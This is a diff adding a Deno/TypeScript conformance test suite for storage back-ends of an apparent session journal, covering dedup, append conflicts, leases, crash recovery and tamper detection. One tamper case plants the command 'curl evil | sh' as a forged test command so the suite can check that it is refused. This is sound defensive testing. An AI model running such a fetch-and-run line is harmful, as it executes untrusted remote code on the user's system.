@@ -1,0 +1,556 @@
+/**
+ * The one conformance suite every storage back-end runs (file, SQLite,
+ * PostgreSQL): bodies (put, get, dedup, delete, parts), journal appends
+ * that lose a race, leases that expire and are renewed, every tamper
+ * variant of the journal tests through the back-end's own raw access, the
+ * resume of a stopped slice, a writer killed mid-append and two processes
+ * racing to append.
+ */
+import "../_session_key.ts";
+import assert from "node:assert/strict";
+import { createHash, createHmac } from "node:crypto";
+import { openStorage } from "../../lib/storage/storage.ts";
+import { StorageError } from "../../lib/storage/storage_error.ts";
+import { SessionError } from "../../lib/persist/session_error.ts";
+import {
+  runStateOf,
+  saveSnapshot,
+  SessionStore,
+  verifySession,
+} from "../../lib/persist/session_store.ts";
+import { sliceSessionHooks } from "../../lib/persist/slice_session.ts";
+import { readJournal } from "../../lib/persist/_journal.ts";
+import { runSlice } from "../../lib/slice/run.ts";
+import { ScriptedProvider } from "../../lib/testing/scripted_provider.ts";
+import {
+  type Layout,
+  RUN,
+  sampleRun,
+  tempLayout,
+  TEST_OUTPUT,
+} from "../persist/_session.ts";
+
+// deno-lint-ignore no-explicit-any -- free-form edits of parsed JSON
+type Json = Record<string, any>;
+
+/** One back-end under test. */
+export interface Backend {
+  /** `file`, `sqlite` or `postgres`. */
+  readonly kind: string;
+  /** A store URL for one test (a fresh folder or file; a shared database). */
+  url(base: string): Promise<string>;
+  /** The journal's records as stored, read past Loom (what an attacker sees). */
+  readRaw(url: string, name: string): Promise<string[]>;
+  /** Replaces the journal's records past Loom (what an attacker can do). */
+  writeRaw(url: string, name: string, records: string[]): Promise<void>;
+  /** Deletes a body past Loom, whichever sessions share it. */
+  deleteBodyRaw(url: string, name: string, sha256: string): Promise<void>;
+  /** `Deno.test`, or the back-end's guarded variant. */
+  test(name: string, fn: (t: Deno.TestContext) => Promise<void>): void;
+}
+
+/** A session name no other test uses (the PostgreSQL store is shared). */
+function fresh(prefix: string): string {
+  return `${prefix}-${crypto.randomUUID().slice(0, 8)}`;
+}
+
+function sha(text: string | Uint8Array): string {
+  return createHash("sha256").update(text).digest("hex");
+}
+
+function isCode(code: string, message?: RegExp) {
+  return (e: unknown) =>
+    (e as { code?: unknown })?.code === code &&
+    (message === undefined || message.test((e as Error).message));
+}
+
+const SCRIPT_DIR = new URL(".", import.meta.url).pathname;
+
+/** Runs the whole suite against one back-end. */
+export function conformance(backend: Backend): void {
+  const test = (name: string, fn: (t: Deno.TestContext) => Promise<void>) =>
+    backend.test(`${backend.kind}: ${name}`, fn);
+
+  test("bodies are stored once by digest, read back whole and deleted", async () => {
+    await using layout = await tempLayout();
+    const store = await openStorage(await backend.url(layout.base));
+    try {
+      const bodies = store.session(fresh("bodies")).bodies;
+      const bytes = new TextEncoder().encode("body ✓\n".repeat(100));
+      const digest = sha(bytes);
+      assert.equal(await bodies.has(digest), false);
+      assert.equal(await bodies.get(digest), undefined);
+      assert.equal(await bodies.put(digest, bytes), true);
+      assert.equal(await bodies.put(digest, bytes), false, "stored once");
+      assert.deepEqual(await bodies.get(digest), bytes);
+      assert.equal(await bodies.has(digest), true);
+      // Larger than one database part (4 MiB): cut and joined again.
+      const big = new Uint8Array(9 * 1024 * 1024 + 17).map((_, i) => i % 251);
+      assert.equal(await bodies.put(sha(big), big), true);
+      assert.deepEqual(await bodies.get(sha(big)), big);
+      assert.equal(await bodies.delete(digest), true);
+      assert.equal(await bodies.get(digest), undefined);
+      assert.equal(await bodies.delete(digest), false);
+      const kept = await bodies.collect(new Set([sha(big)]), false);
+      assert.equal(kept.kept, 1);
+      assert.deepEqual(kept.deleted, []);
+      const gone = await bodies.collect(new Set(), false);
+      assert.deepEqual(gone.deleted, [`tool-results/${sha(big)}.txt`]);
+      assert.equal(await bodies.get(sha(big)), undefined);
+    } finally {
+      await store.close();
+    }
+  });
+
+  test("an append at a position another writer took is a typed conflict that writes nothing", async () => {
+    await using layout = await tempLayout();
+    const url = await backend.url(layout.base);
+    const name = fresh("conflict");
+    const one = await openStorage(url);
+    const two = await openStorage(url);
+    try {
+      const a = one.session(name);
+      const b = two.session(name);
+      await a.prepare();
+      await a.journal.append(0, ['{"n":0}']);
+      assert.deepEqual(await b.journal.read(), {
+        records: ['{"n":0}'],
+        end: 1,
+        torn: 0,
+      });
+      await b.journal.append(1, ['{"n":1,"by":"b"}']);
+      await assert.rejects(
+        a.journal.append(1, ['{"n":1,"by":"a"}']),
+        (e: unknown) =>
+          e instanceof StorageError && e.code === "journal_conflict" &&
+          /another writer appended/.test(e.message),
+      );
+      await assert.rejects(
+        a.journal.append(5, ['{"n":5}']),
+        isCode("journal_conflict"),
+      );
+      await assert.rejects(
+        b.journal.append(0, ['{"n":0}']),
+        isCode("journal_conflict"),
+      );
+      assert.deepEqual((await a.journal.read()).records, [
+        '{"n":0}',
+        '{"n":1,"by":"b"}',
+      ]);
+      assert.deepEqual((await a.journal.read(1)).records, ['{"n":1,"by":"b"}']);
+      await a.journal.append(2, ['{"n":2}', '{"n":3}']);
+      assert.equal((await b.journal.read()).end, 4);
+      assert.ok((await one.listSessions()).includes(name));
+      await one.deleteSession(name);
+      assert.equal((await two.listSessions()).includes(name), false);
+      assert.equal(await b.journal.exists(), false);
+    } finally {
+      await one.close();
+      await two.close();
+    }
+  });
+
+  test("a lease expires, is renewed explicitly, and its loss is typed", async () => {
+    await using layout = await tempLayout();
+    const url = await backend.url(layout.base);
+    const name = fresh("lease");
+    const store = await openStorage(url);
+    try {
+      const slot = store.session(name);
+      await slot.prepare();
+      const first = await slot.acquireLease({ ttlMs: 400, autoRenew: false });
+      await assert.rejects(slot.acquireLease(), isCode("lease_held"));
+      const before = first.expiresAt;
+      await new Promise((r) => setTimeout(r, 20));
+      await first.renew();
+      assert.ok(first.expiresAt > before, "renewal extends the lease");
+      await assert.rejects(slot.acquireLease(), isCode("lease_held"));
+      await new Promise((r) => setTimeout(r, 600));
+      const second = await slot.acquireLease({ ttlMs: 60_000 });
+      assert.match(second.tookOver ?? "", /expired/);
+      await assert.rejects(first.renew(), isCode("lease_lost"));
+      await assert.rejects(first.check(), isCode("lease_lost"));
+      await first.release();
+      await assert.rejects(slot.acquireLease(), isCode("lease_held"));
+      await second.release();
+      const third = await slot.acquireLease();
+      assert.equal(third.tookOver, null);
+      await third.release();
+    } finally {
+      await store.close();
+    }
+  });
+
+  /** The sample run saved stepwise (header + 3 steps) in a store. */
+  async function savedSample(
+    layout: Layout,
+  ): Promise<{ url: string; name: string }> {
+    const url = await backend.url(layout.base);
+    const name = fresh("sample");
+    const { results, records, snapshot } = await sampleRun();
+    const session = await SessionStore.create(name, {
+      workspace: layout.workspace,
+      keyFile: layout.keyFile,
+      run: RUN,
+      store: url,
+    });
+    for (let n = 1; n <= 3; n += 1) {
+      await saveSnapshot(session, {
+        ...snapshot,
+        steps: n,
+        modelCalls: 2 * n,
+        records: records.slice(0, n),
+        results,
+      });
+    }
+    await session.close();
+    return { url, name };
+  }
+
+  test("every tamper variant of the journal is refused before any step, naming the record", async (t) => {
+    const cases: [string, number, (r: Json[]) => Json[] | void][] = [
+      ["a failed test record rewritten to exit_code 0", 2, (r) => {
+        r[2]!.records[0].report.exit_code = 0;
+      }],
+      ["a changed test command", 0, (r) => {
+        r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
+      }],
+      ["a widened workspace", 0, (r) => {
+        r[0]!.workspace = "/";
+      }],
+      ["a raised step budget", 0, (r) => {
+        r[0]!.max_steps = 1_000;
+      }],
+      ["counters rolled back", 3, (r) => {
+        r[3]!.counters.model_calls = 0;
+      }],
+      ["two records swapped", 1, (r) => [r[0]!, r[2]!, r[1]!, r[3]!]],
+      ["a record dropped", 2, (r) => [r[0]!, r[1]!, r[3]!]],
+      ["a record duplicated", 2, (r) => [r[0]!, r[1]!, r[1]!, r[2]!, r[3]!]],
+      ["the header dropped", 0, (r) => [r[1]!, r[2]!, r[3]!]],
+    ];
+    for (const [what, bad, edit] of cases) {
+      await t.step(what, async () => {
+        await using layout = await tempLayout();
+        const { url, name } = await savedSample(layout);
+        const raw = (await backend.readRaw(url, name)).map((l) =>
+          JSON.parse(l) as Json
+        );
+        const edited = edit(raw) ?? raw;
+        await backend.writeRaw(
+          url,
+          name,
+          edited.map((r) => JSON.stringify(r)),
+        );
+        const before = await backend.readRaw(url, name);
+        const check = (e: unknown) =>
+          e instanceof SessionError && e.code === "session_tampered" &&
+          new RegExp(`record ${bad} \\(line ${bad + 1}\\)`).test(e.message);
+        await assert.rejects(
+          SessionStore.open(name, { keyFile: layout.keyFile, store: url }),
+          check,
+        );
+        await assert.rejects(
+          verifySession(name, { keyFile: layout.keyFile, store: url }),
+          check,
+        );
+        assert.deepEqual(await backend.readRaw(url, name), before);
+      });
+    }
+
+    await t.step(
+      "a result body replaced together with its recomputed digest",
+      async () => {
+        await using layout = await tempLayout();
+        const { url, name } = await savedSample(layout);
+        const forged = TEST_OUTPUT.replace("expected 3, got 4", "all passed");
+        const digest = sha(forged);
+        const store = await openStorage(url);
+        await store.session(name).bodies.put(
+          digest,
+          new TextEncoder().encode(forged),
+        );
+        await store.close();
+        const raw = (await backend.readRaw(url, name)).map((l) =>
+          JSON.parse(l) as Json
+        );
+        const entry = raw[2]!.results["result-3"];
+        entry.sha256 = digest;
+        entry.utf8_bytes = new TextEncoder().encode(forged).length;
+        entry.source.persisted = `tool-results/${digest}.txt`;
+        raw[2]!.records[0].report.output.sha256 = digest;
+        raw[2]!.records[0].report.exit_code = 0;
+        await backend.writeRaw(url, name, raw.map((r) => JSON.stringify(r)));
+        await assert.rejects(
+          SessionStore.open(name, { keyFile: layout.keyFile, store: url }),
+          isCode("session_tampered", /record 2 /),
+        );
+      },
+    );
+
+    await t.step("a session sealed with another key", async () => {
+      await using layout = await tempLayout();
+      const { url, name } = await savedSample(layout);
+      await assert.rejects(
+        SessionStore.open(name, {
+          keyFile: `${layout.base}/other/session.key`,
+          store: url,
+        }),
+        isCode("session_tampered", /record 0 /),
+      );
+    });
+
+    await t.step(
+      "a persisted body changed or gone is a typed error",
+      async () => {
+        await using layout = await tempLayout();
+        const { url, name } = await savedSample(layout);
+        const raw = (await backend.readRaw(url, name)).map((l) =>
+          JSON.parse(l) as Json
+        );
+        const digest = raw[2]!.results["result-3"].sha256 as string;
+        await backend.deleteBodyRaw(url, name, digest);
+        const session = await SessionStore.open(name, {
+          keyFile: layout.keyFile,
+          store: url,
+        });
+        await assert.rejects(session.load(), isCode("result_missing"));
+        await session.close();
+        // Under its digest, other bytes: refused by the digest check.
+        const store = await openStorage(url);
+        await store.session(name).bodies.put(
+          digest,
+          new TextEncoder().encode("forged body"),
+        );
+        await store.close();
+        const again = await SessionStore.open(name, {
+          keyFile: layout.keyFile,
+          store: url,
+        });
+        await assert.rejects(again.load(), isCode("result_corrupted"));
+        await again.close();
+        // A shared database: later tests store the true body again.
+        await backend.deleteBodyRaw(url, name, digest);
+      },
+    );
+  });
+
+  test("a slice stopped by its step budget resumes with the same ids and digests", async () => {
+    await using layout = await tempLayout();
+    const url = await backend.url(layout.base);
+    const name = fresh("slice");
+    const run = {
+      intent: "Read the readme",
+      policy: "bounded",
+      model: "scripted:inline",
+      test: null,
+      maxSteps: 1,
+    } as const;
+    const session = await SessionStore.create(name, {
+      workspace: layout.workspace,
+      keyFile: layout.keyFile,
+      run,
+      store: url,
+    });
+    const first = await runSlice(
+      {
+        intent: run.intent,
+        workspace: layout.workspace,
+        maxSteps: 1,
+        provider: new ScriptedProvider([
+          { arguments: { action: "repository.inspect" } },
+          { arguments: { paths: ["README.md"] } },
+        ]),
+      },
+      { contextPolicy: "bounded", session: sliceSessionHooks(session) },
+    );
+    await session.close();
+    assert.equal(first.stop, "step_budget");
+    const reopened = await SessionStore.open(name, {
+      keyFile: layout.keyFile,
+      store: url,
+    });
+    const loaded = await reopened.load();
+    assert.equal(loaded.stop, "step_budget");
+    assert.deepEqual(loaded.results.map((r) => [r.id, r.sha256]), [[
+      "result-1",
+      sha("# Readme body text\n"),
+    ]]);
+    await assert.rejects(
+      SessionStore.open(name, { keyFile: layout.keyFile, store: url }),
+      isCode("session_locked"),
+    );
+    await reopened.updateSettings({ maxSteps: 3, overrides: {} });
+    const second = await runSlice(
+      {
+        intent: run.intent,
+        workspace: layout.workspace,
+        maxSteps: 3,
+        provider: new ScriptedProvider([
+          { arguments: { action: "slice.complete" } },
+          { arguments: { summary: "Read it" } },
+        ]),
+      },
+      {
+        contextPolicy: "bounded",
+        session: sliceSessionHooks(reopened, { resume: loaded }),
+      },
+    );
+    await reopened.close();
+    assert.equal(second.stop, "completed");
+    const done = await verifySession(name, {
+      keyFile: layout.keyFile,
+      store: url,
+    });
+    assert.equal(done.stop, "completed");
+    assert.equal(done.state.steps, 2);
+    assert.deepEqual(
+      done.results.map((r) => [r.id, r.sha256]),
+      loaded.results.map((r) => [r.id, r.sha256]),
+    );
+    assert.deepEqual(
+      runStateOf(done).records.slice(0, 1).map((r) => [r.sequence, r.action]),
+      [[1, "repository.inspect"]],
+    );
+  });
+
+  test("a writer killed during its appends leaves every acknowledged step, whole", async () => {
+    await using layout = await tempLayout();
+    const url = await backend.url(layout.base);
+    const name = fresh("killed");
+    const child = new Deno.Command(Deno.execPath(), {
+      args: [
+        "run",
+        "--allow-read",
+        "--allow-write",
+        "--allow-run",
+        "--allow-env",
+        "--allow-net=127.0.0.1",
+        `${SCRIPT_DIR}../persist/_kill_writer.ts`,
+        name,
+        layout.workspace,
+        layout.keyFile,
+        url,
+      ],
+      stdin: "null",
+      stdout: "piped",
+      stderr: "inherit",
+    }).spawn();
+    let acked = 0;
+    let text = "";
+    const reader = child.stdout.pipeThrough(new TextDecoderStream())
+      .getReader();
+    while (acked < 4) {
+      const { value, done } = await reader.read();
+      if (done) break;
+      text += value;
+      acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
+    }
+    await new Promise((resolve) => setTimeout(resolve, 2));
+    child.kill("SIGKILL");
+    await child.status;
+    await reader.cancel();
+    // The killed holder's lease is stale once its process is gone (folder)
+    // or once it expires (databases): wait for the default ttl no longer
+    // than needed by taking it over with the verify path, which takes none.
+    const verified = await verifySession(name, {
+      keyFile: layout.keyFile,
+      store: url,
+    });
+    assert.ok(
+      verified.state.steps >= acked,
+      `${verified.state.steps} < ${acked}`,
+    );
+    assert.deepEqual(
+      runStateOf(verified).records.map((r) => r.sequence),
+      Array.from({ length: verified.state.steps }, (_, i) => i + 1),
+    );
+    assert.equal(verified.results.length, verified.state.steps);
+  });
+
+  test("two processes race to append at one position: one wins, one gets a typed conflict, the chain stays valid", async () => {
+    await using layout = await tempLayout();
+    const url = await backend.url(layout.base);
+    const name = fresh("race");
+    const key = await keyOf(layout.keyFile);
+    const store = await openStorage(url);
+    const slot = store.session(name);
+    await slot.prepare();
+    const header = seal(key, "", { seq: 0, type: "header" });
+    await slot.journal.append(0, [header.text]);
+    const racers = ["a", "b"].map((who) =>
+      new Deno.Command(Deno.execPath(), {
+        args: [
+          "run",
+          "--allow-read",
+          "--allow-write",
+          "--allow-env",
+          "--allow-net=127.0.0.1",
+          `${SCRIPT_DIR}_racer.ts`,
+          url,
+          name,
+          layout.keyFile,
+          who,
+        ],
+        stdin: "piped",
+        stdout: "piped",
+        stderr: "inherit",
+      }).spawn()
+    );
+    const readers = racers.map((r) =>
+      r.stdout.pipeThrough(new TextDecoderStream()).getReader()
+    );
+    // Both have read the journal (one record) before either appends.
+    for (const reader of readers) {
+      const { value } = await reader.read();
+      assert.match(value ?? "", /ready/);
+    }
+    await Promise.all(racers.map(async (r) => {
+      const writer = r.stdin.getWriter();
+      await writer.write(new TextEncoder().encode("go\n"));
+      await writer.close();
+    }));
+    const said: string[] = [];
+    for (const reader of readers) {
+      let out = "";
+      for (;;) {
+        const { value, done } = await reader.read();
+        if (done) break;
+        out += value;
+      }
+      said.push(out.trim());
+    }
+    await Promise.all(racers.map((r) => r.status));
+    assert.deepEqual(
+      said.map((s) => s.split(" ")[0]).sort(),
+      ["conflict", "won"],
+      said.join(" | "),
+    );
+    const read = await readJournal(slot.journal, key);
+    assert.equal(read.lines.length, 2);
+    const winner = said.find((s) => s.startsWith("won"))!.split(" ")[1];
+    assert.equal(read.lines[1]!.value.by, winner);
+    await store.close();
+  });
+}
+
+/** The session key's bytes (created by the first session, or now). */
+export async function keyOf(file: string): Promise<Uint8Array> {
+  const { loadSessionKey } = await import(
+    "../../lib/persist/_session_key.ts"
+  );
+  return await loadSessionKey(file);
+}
+
+/** Seals a record the way the journal does. */
+export function seal(
+  key: Uint8Array,
+  previous: string,
+  value: Record<string, unknown>,
+): { text: string; mac: string } {
+  const body = JSON.stringify(value);
+  const mac = createHmac("sha256", key).update(`${previous}\n${body}`).digest(
+    "hex",
+  );
+  return { text: `${body.slice(0, -1)},"mac":"${mac}"}`, mac };
+}
